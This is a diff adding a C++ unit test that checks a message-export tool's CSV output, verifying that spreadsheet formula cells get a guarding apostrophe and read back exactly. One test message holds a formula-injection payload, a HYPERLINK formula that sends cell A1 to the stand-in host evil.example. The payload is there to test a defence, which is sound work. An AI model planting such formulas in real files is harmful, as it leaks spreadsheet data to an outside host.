@@ -4,6 +4,7 @@
 #include <cstdio>
 #include <filesystem>
 #include <memory>
+#include <random>
 #include <set>
 #include <sstream>
 
@@ -259,4 +260,49 @@ TEST(Export, TheCommandLinePicksAsTheViewsDo) {
     std::ostringstream err3;
     EXPECT_EQ(RunExportCommand({kst, "--format", "csv", "-o", dir.Path().string()}, out, err3), 1);
     EXPECT_NE(err3.str().find("Cannot write \"" + dir.Path().string() + "\": "), std::string::npos) << err3.str();
+}
+
+// A cell a spreadsheet would run as a formula gets one apostrophe before it; the reader of
+// Kestro's own CSV removes exactly that one, for every cell (random ones over the letters
+// that matter, apostrophes included) and through a whole export.
+TEST(Export, FormulaCellsAreGuardedAndReadBackExactly) {
+    static constexpr std::string_view Letters = "=+-@\t\r'a1 (),\"";
+    std::mt19937 rng(7);
+    std::string room;
+    for (int i = 0; i < 20000; ++i) {
+        std::string cell;
+        for (int n = std::uniform_int_distribution<int>(0, 5)(rng); n > 0; --n)
+            cell += Letters[std::uniform_int_distribution<std::size_t>(0, Letters.size() - 1)(rng)];
+        for (const bool phone : {false, true}) {
+            const std::string guarded(GuardCsvCell(cell, room, phone));
+            EXPECT_EQ(UnguardCsvCell(guarded), cell) << cell;
+            const std::size_t first = guarded.find_first_not_of('\'');
+            const bool plainNumber = phone && cell.find_first_not_of("+0123456789 -()") == std::string::npos;
+            if (first == 0 && !plainNumber) {
+                EXPECT_EQ(std::string_view("=+-@\t\r").find(guarded[0]), std::string_view::npos) << cell;
+            }
+            if (plainNumber) {
+                EXPECT_EQ(guarded, cell);
+            }
+        }
+    }
+
+    MsgStore S;
+    AddMessage(S, "2024.03.15 18:07", "+1 (555) 555-0100", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", Received,
+               "@SUM(A1)");
+    AddMessage(S, "2024.03.15 18:08", "=1+1", "-2", Sent, "'=quoted");
+    AddMessage(S, "2024.03.15 18:09", "+15555550101", "'plain", Sent, "+Ada");
+    const std::string csv = CsvExport(S, AllRows(S));
+    EXPECT_NE(csv.find("+1 (555) 555-0100,'@SUM(A1),Received,\"'=HYPERLINK("), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",'=1+1,''=quoted,Sent,'-2\r\n"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",+15555550101,'+Ada,Sent,'plain\r\n"), std::string::npos) << csv;
+    MsgStore back;
+    ImportCsvExportBytes(back, csv);
+    const auto cells = [](const MsgStore& T) {
+        std::set<std::vector<std::string>> all;
+        for (std::int32_t n = 1; n <= T.MessageCount; ++n)
+            all.insert({std::string(T.Messages[n].Phone.view()), std::string(T.Messages[n].Name.view()), T.Messages[n].Text});
+        return all;
+    };
+    EXPECT_EQ(cells(back), cells(S));
 }
